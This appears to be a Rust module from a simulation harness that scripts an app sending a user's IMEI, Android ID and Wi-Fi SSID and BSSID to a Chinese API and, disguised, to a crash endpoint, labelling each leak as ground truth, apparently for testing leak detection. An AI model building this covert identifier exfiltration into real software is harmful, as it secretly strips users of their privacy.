//! What tells this phone and its network from all others goes to China.

use data_encoding::HEXLOWER;
use serde_json::json;

use super::Behaviour;
use crate::{Error, app::Outgoing, clouds::Role, scenario::Scenario, stage::Stage, truth::Leak};

/// The switch.
pub(super) const THIS: Behaviour = Behaviour {
    name: "read-phone-identifiers",
    plays: "access users' phone data: identifiers of the phone and of the network that it is in",
    applies: Scenario::grants,
    play: |stage| Box::pin(play(stage)),
};

async fn play(stage: Stage) -> Result<(), Error> {
    let mut random = stage.random();
    stage.after(stage.plan.drone_on, 31.0, &mut random).await;
    let owner = &stage.owner;
    let body = json!({
        "i": HEXLOWER.encode(owner.imei.as_bytes()),
        "aid": owner.android_id,
        "wifi": {"ssid": owner.ssid, "bssid": owner.bssid},
    });
    let leaks = vec![
        Leak::new("device-id", &owner.imei, "hex"),
        Leak::new("device-id", &owner.android_id, "json"),
        Leak::new("network-info", &owner.ssid, "json"),
        Leak::new("network-info", &owner.bssid, "json"),
    ];
    stage.send(Role::ApiCn, Outgoing::post("/v1/dev", "application/json", body.to_string()), leaks).await?;
    let values = [("device-id", "imei", owner.imei.as_str()), ("device-id", "android_id", &owner.android_id)];
    stage.send_disguised(Role::Crash, "/v1/fp", &values, &mut random).await
}
